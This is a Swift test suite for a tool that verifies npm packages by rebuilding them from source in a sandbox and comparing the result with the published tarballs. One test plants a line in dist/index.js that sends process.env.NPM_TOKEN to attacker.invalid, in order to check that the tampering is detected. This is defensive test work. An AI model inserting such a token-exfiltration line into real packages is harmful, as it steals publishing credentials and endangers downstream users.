import Foundation
import LoopbackRegistry
import Testing
import TestSupport

/// `provcheck rebuild --build` and `provcheck verify --build` on the Fixtures/build packages, published by a
/// CI-like `npm ci && npm pack` to a loopback registry.
@Suite(.serialized, .enabled(if: BuildFixtures.toolsPresent, "needs node, npm and git"))
struct BuildCommandTests: RegistryWorkspaceSuite {
    let workspace: RegistryWorkspace

    init() throws { workspace = try RegistryWorkspace(label: "cli-build", content: BuildFixtures.registryContent()) }

    /// Serves `tarball` as `name@1.0.0` (published with npm 10.8.2 on Node 20.20.2) and signs it with a test key.
    func publish(_ name: String, tarball: URL, directory packageDirectory: String? = nil) throws {
        let data = try Data(contentsOf: tarball)
        var manifest: JSONValue = ["_npmVersion": "10.8.2", "_nodeVersion": "20.20.2", "license": "MIT"]
        if let packageDirectory {
            manifest["repository"] = ["type": "git", "url": "git+https://example.invalid/fixture.git",
                                      "directory": .string(packageDirectory)]
        }
        registry.update { $0.addVersion(name: name, version: "1.0.0", tarball: data, manifest: manifest) }
        try BuildFixtures.sign(registry, name: name, version: "1.0.0", integrity: Self.sri(data), in: directory)
    }

    static func sri(_ data: Data) -> String {
        // sha512 SRI through openssl: TestSupport has no Digest dependency.
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("sri-\(UUID().uuidString)")
        try? data.write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        let out = try? BuildFixtures.run(["sh", "-c", "openssl dgst -sha512 -binary '\(file.path)' | base64 -w0"],
                                         in: FileManager.default.temporaryDirectory)
        return "sha512-" + (out?.output ?? "").trimmingCharacters(in: .whitespacesAndNewlines)
    }

    func verify(_ spec: String, source: URL, extra: [String] = [], environment: [String: String?] = [:]) throws -> ProvcheckBinary.Run {
        try ProvcheckBinary.run(["verify", spec, "--registry", registry.baseURL.absoluteString, "--offline",
                                 "--source", source.path, "--ref", "v1.0.0", "--build"] + extra,
                                environment: ["NO_COLOR": "1"].merging(environment) { $1 })
    }

    @Test(.enabled(if: BuildFixtures.bubblewrapWorks, "needs a working bubblewrap"))
    func rebuildWithBuildReproducesTheSHA512AndVerifyIsVerified() throws {
        defer { cleanup() }
        let repository = try BuildFixtures.makeRepository("single", in: directory)
        let published = try BuildFixtures.ciPack(repository: repository, registry: registry.baseURL, in: directory)
        let output = directory.appendingPathComponent("rebuilt.tgz")
        let rebuild = try ProvcheckBinary.run(["rebuild", repository.path, "--ref", "v1.0.0", "--build",
                                               "--registry", registry.baseURL.absoluteString, "--output", output.path])
        #expect(rebuild.status == 0, "\(rebuild.stderr)\n\(rebuild.stdout)")
        #expect(try Data(contentsOf: output) == (try Data(contentsOf: published)))
        #expect(rebuild.stdout.contains("npm run build   # prepack"))
        #expect(rebuild.stdout.contains("sandbox     bubblewrap"))

        let json = try ProvcheckBinary.run(["rebuild", repository.path, "--ref", "v1.0.0", "--build", "--json",
                                            "--registry", registry.baseURL.absoluteString, "--output", output.path])
        let build = json.json?["build"] as? [String: Any]
        #expect((build?["recipe"] as? [String: Any])?["lockfile"] as? String == "package-lock.json")
        #expect(build?["sandboxed"] as? Bool == true)

        try publish("fixture-single", tarball: published)
        let verified = try verify("fixture-single@1.0.0", source: repository)
        #expect(verified.status == 0, "\(verified.stderr)\n\(verified.stdout)")
        #expect(verified.stdout.contains("VERIFIED fixture-single@1.0.0"), "\(verified.stdout)")
        #expect(verified.stdout.contains("buildRecipe: install package-lock.json → prepack: npm run build → pack"))

        // Without --build the same package stays INCOMPLETE (dist/ is not in the source).
        let plain = try ProvcheckBinary.run(["verify", "fixture-single@1.0.0", "--registry", registry.baseURL.absoluteString,
                                             "--offline", "--source", repository.path, "--ref", "v1.0.0"],
                                            environment: ["NO_COLOR": "1"])
        #expect(plain.status == 0)
        #expect(plain.stdout.contains("INCOMPLETE"))
        #expect(plain.stdout.contains("rebuild.not-in-source"))
    }

    @Test(.enabled(if: BuildFixtures.bubblewrapWorks, "needs a working bubblewrap"))
    func oneInjectedLineInDistFailsNamingTheFileWithADiff() throws {
        defer { cleanup() }
        let repository = try BuildFixtures.makeRepository("single", in: directory)
        let injected = "require('https').get('https://attacker.invalid/?t=' + process.env.NPM_TOKEN)\n"
        let tampered = try BuildFixtures.ciPack(repository: repository, registry: registry.baseURL, in: directory,
                                                appending: ["dist/index.js": injected])
        try publish("fixture-single", tarball: tampered)
        let result = try verify("fixture-single@1.0.0", source: repository)
        #expect(result.status == 1, "\(result.stderr)\n\(result.stdout)")
        #expect(result.stdout.contains("FAIL  rebuild.compare"))
        #expect(result.stdout.contains("content differs: dist/index.js"))
        #expect(result.stdout.contains("diff of dist/index.js"))
        #expect(result.stdout.contains("-require('https').get('https://attacker.invalid/?t=' + process.env.NPM_TOKEN)"))
        #expect(result.stdout.contains("buildDeterministic: yes (two builds agree)"))
        #expect(result.stdout.contains("FAILED fixture-single@1.0.0"))
    }

    @Test(.enabled(if: BuildFixtures.bubblewrapWorks, "needs a working bubblewrap"))
    func monorepoPackageVerifiesAndTimestampBuildIsNonDeterministic() throws {
        defer { cleanup() }
        let monorepo = try BuildFixtures.makeRepository("monorepo", in: directory)
        let x = try BuildFixtures.ciPack(repository: monorepo, directory: "packages/x", registry: registry.baseURL, in: directory)
        try publish("@fixture/x", tarball: x, directory: "packages/x")
        let verified = try verify("@fixture/x@1.0.0", source: monorepo)
        #expect(verified.status == 0, "\(verified.stderr)\n\(verified.stdout)")
        #expect(verified.stdout.contains("VERIFIED @fixture/x@1.0.0"), "\(verified.stdout)")

        let clock = try BuildFixtures.makeRepository("clock", in: directory)
        let stamped = try BuildFixtures.ciPack(repository: clock, registry: registry.baseURL, in: directory)
        try publish("fixture-clock", tarball: stamped)
        let result = try verify("fixture-clock@1.0.0", source: clock)
        #expect(result.status == 0, "\(result.stderr)\n\(result.stdout)")
        #expect(result.stdout.contains("INCOMPLETE fixture-clock@1.0.0"))
        #expect(result.stdout.contains("the build is not deterministic: two builds differ in dist/built-at.js"))
        #expect(result.stdout.contains("buildDeterministic: no: two builds differ in dist/built-at.js"))
    }

    @Test(.enabled(if: BuildFixtures.bubblewrapWorks, "needs a working bubblewrap"))
    func watchBuildsWhenThePolicySaysAuto() throws {
        defer { cleanup() }
        let repository = try BuildFixtures.makeRepository("single", in: directory)
        let published = try BuildFixtures.ciPack(repository: repository, registry: registry.baseURL, in: directory)
        try publish("fixture-single", tarball: published)
        for (name, build) in [("auto", "auto"), ("never", "never")] {
            try Data(#"{"build": "\#(build)"}"#.utf8).write(to: directory.appendingPathComponent("\(name).policy.json"))
            try Data("""
            {"version": 1, "packages": [{"name": "fixture-single", "rebuild": true, "versions": {"latest": 1},
              "policy": "\(name).policy.json", "source": "\(repository.path)"}]}
            """.utf8).write(to: directory.appendingPathComponent("\(name).watch.json"))
            let run = try ProvcheckBinary.run(["watch", "--config", "\(name).watch.json", "--state", "\(name).state.json",
                                               "--output", "\(name).report.json", "--offline",
                                               "--registry", registry.baseURL.absoluteString], in: directory)
            #expect(run.status == 0 || run.status == 1, "\(run.stderr)\n\(run.stdout)")
        }
        let auto = try String(contentsOf: directory.appendingPathComponent("auto.state.json"), encoding: .utf8)
        let never = try String(contentsOf: directory.appendingPathComponent("never.state.json"), encoding: .utf8)
        // With build = "auto" the built tarball is compared (byte-identical); without, only the source files are.
        #expect(auto.contains("\"exact\""), "\(auto)")
        #expect(never.contains("\"content-identical\""), "\(never)")
    }

    @Test func withoutBubblewrapVerifyBuildIsIncompleteAndStrictFails() throws {
        defer { cleanup() }
        let repository = try BuildFixtures.makeRepository("single", in: directory)
        let published = try BuildFixtures.ciPack(repository: repository, registry: registry.baseURL, in: directory)
        try publish("fixture-single", tarball: published)
        // A PATH with git and node but no bwrap.
        let bin = directory.appendingPathComponent("bin")
        try FileManager.default.createDirectory(at: bin, withIntermediateDirectories: true)
        for tool in ["git", "node"] {
            let found = try BuildFixtures.run(["sh", "-c", "command -v \(tool)"], in: directory).output
                .trimmingCharacters(in: .whitespacesAndNewlines)
            try FileManager.default.createSymbolicLink(atPath: bin.appendingPathComponent(tool).path, withDestinationPath: found)
        }
        let result = try verify("fixture-single@1.0.0", source: repository, environment: ["PATH": bin.path])
        #expect(result.status == 0, "\(result.stderr)\n\(result.stdout)")
        #expect(result.stdout.contains("INCOMPLETE fixture-single@1.0.0"))
        #expect(result.stdout.contains("the build could not run: bubblewrap (bwrap) is not on PATH"))
        #expect(!result.stdout.contains("VERIFIED"))
        let strict = try verify("fixture-single@1.0.0", source: repository, extra: ["--strict"], environment: ["PATH": bin.path])
        #expect(strict.status == 1, "\(strict.stderr)\n\(strict.stdout)")
        #expect(strict.stdout.contains("FAILED fixture-single@1.0.0"))
        // --no-sandbox is the explicit opt-out: the build runs, and the output says it was not sandboxed.
        let unsandboxed = try verify("fixture-single@1.0.0", source: repository, extra: ["--no-sandbox"],
                                     environment: ["PATH": bin.path])
        #expect(unsandboxed.status == 0, "\(unsandboxed.stderr)\n\(unsandboxed.stdout)")
        #expect(unsandboxed.stdout.contains("buildSandbox: NO SANDBOX (--no-sandbox)"))
        #expect(unsandboxed.stdout.contains("VERIFIED fixture-single@1.0.0"))
    }
}
